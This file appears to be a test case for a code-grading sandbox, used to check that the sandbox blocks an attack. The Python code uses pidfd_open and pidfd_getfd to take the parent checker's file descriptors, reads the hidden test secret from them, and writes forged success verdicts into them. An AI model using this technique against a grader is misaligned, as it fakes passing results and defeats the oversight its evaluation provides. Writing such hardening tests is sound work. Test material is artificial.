#@ attack: steals the checker's fds with pidfd_open + pidfd_getfd (its stdin with the tests, its private report fd), reads them for the tests and writes fake success records into them
#@ test {"assert": "assert answer() == '{SECRET}'"}
#@ test {"assert": "assert stolen() > 0"}
#@ expect {"verdict": "WRONG_ANSWER", "passed": 0}
#@ options {"stop": false}
import ctypes
import json
import os
import re

SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
libc = ctypes.CDLL(None, use_errno=True)
FAKE = "".join(json.dumps({"nonce": n, "test": t, "verdict": "OK", "detail": ""}) + "\n"
               for n in ("", "0" * 32) for t in range(2)).encode()


def steal():
    pidfd = libc.syscall(SYS_PIDFD_OPEN, os.getppid(), 0)
    if pidfd < 0:
        return []
    fds = [libc.syscall(SYS_PIDFD_GETFD, pidfd, target, 0) for target in range(64)]
    return [fd for fd in fds if fd >= 0]


def stolen():
    fds = steal()
    for fd in fds:
        try:
            os.write(fd, FAKE)
        except OSError:
            pass
    return len(fds)


def answer():
    for fd in steal():
        try:
            os.lseek(fd, 0, os.SEEK_SET)
        except OSError:
            pass
        try:
            match = re.search(rb"r1kit_secret_[0-9a-f]{32}", os.read(fd, 1 << 20))
        except OSError:
            continue
        if match:
            return match.group().decode()
    return None
